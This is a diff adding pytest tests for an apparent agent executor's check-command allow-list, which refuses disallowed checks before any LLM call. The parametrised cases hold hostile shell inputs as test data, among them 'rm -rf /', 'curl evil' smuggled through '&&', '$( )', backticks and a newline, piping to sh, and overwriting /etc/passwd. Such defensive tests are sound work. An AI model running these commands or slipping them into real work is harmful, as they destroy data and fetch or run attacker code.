@@ -1,0 +1,83 @@
+"""An executor refuses checks outside its allow-list (a run file is code).
+
+The drain is the real CLI with ``--allow-check-prefix``; the refused phase fails with
+``check_not_allowed`` before any LLM call, and its command never runs.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from autopack.executor.check_policy import CheckPolicy
+from tests.executor_support import (
+    attempts,
+    cassette,
+    create_run,
+    env_for,
+    files,
+    line,
+    phase,
+    rows,
+    run_file,
+)
+from tests.support import cli
+
+
+def test_a_check_outside_the_allow_list_is_refused_before_anything_runs(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'autopack.db'}"
+    env = env_for(url)
+    allowed = 'python -c "print(42)"'
+    spec = [
+        phase("good", ["pkg/good.py"], checks=[allowed]),
+        phase("evil", ["pkg/evil.py"], checks=["touch pwned"]),
+    ]
+    create_run(run_file(tmp_path, spec), env, tmp_path)
+    tape = cassette(
+        tmp_path,
+        [line("good", 1, files(good_py="G = 1\n")), line("evil", 1, files(evil_py="E = 1\n"))],
+    )
+    result = cli(
+        *("--allow-check-prefix", "python -c", "drain", "run", "--run-id", "exec-run"),
+        *("--auditor", "rules", "--cassette", str(tape), "--json"),
+        *("--workspace", str(tmp_path / "ws")),
+        cwd=tmp_path,
+        env=env,
+    )
+    assert result.returncode == 1, result.stderr[-3000:]
+    summary = json.loads(result.stdout)
+    assert summary["phase_states"] == {"good": "COMPLETE", "evil": "FAILED"}
+    assert not (tmp_path / "ws" / "pwned").exists() and not (tmp_path / "pwned").exists()
+    [refused] = attempts(url, "evil")
+    assert refused["stop_reason"] == "check_not_allowed"
+    assert "touch pwned" in refused["error"] and "--allow-check-prefix" in refused["error"]
+    calls = rows(url, "SELECT phase_id FROM llm_usage_events")
+    assert [c["phase_id"] for c in calls] == ["good"]  # no LLM call for the refused phase
+
+
+@pytest.mark.parametrize(
+    ("command", "allowed"),
+    [
+        ("python -m pytest -q tests/", True),
+        ("python -m pytest", True),
+        ("python -m pytestx", False),
+        ("ruff check .", True),
+        ("python -m pytest; rm -rf /", False),
+        ("python -m pytest && curl evil", False),
+        ("python -m pytest | sh", False),
+        ("python -m pytest $(curl evil)", False),
+        ("python -m pytest `curl evil`", False),
+        ("python -m pytest > /etc/passwd", False),
+        ("python -m pytest\ncurl evil", False),
+        ("touch pwned", False),
+    ],
+)
+def test_the_allow_list_matches_whole_words_and_refuses_shell_operators(
+    command: str, allowed: bool
+) -> None:
+    policy = CheckPolicy.parse("python -m pytest; ruff ")
+    assert policy is not None
+    assert (policy.refusal([command]) is None) is allowed
+    assert CheckPolicy.parse("") is None and CheckPolicy.parse(None) is None
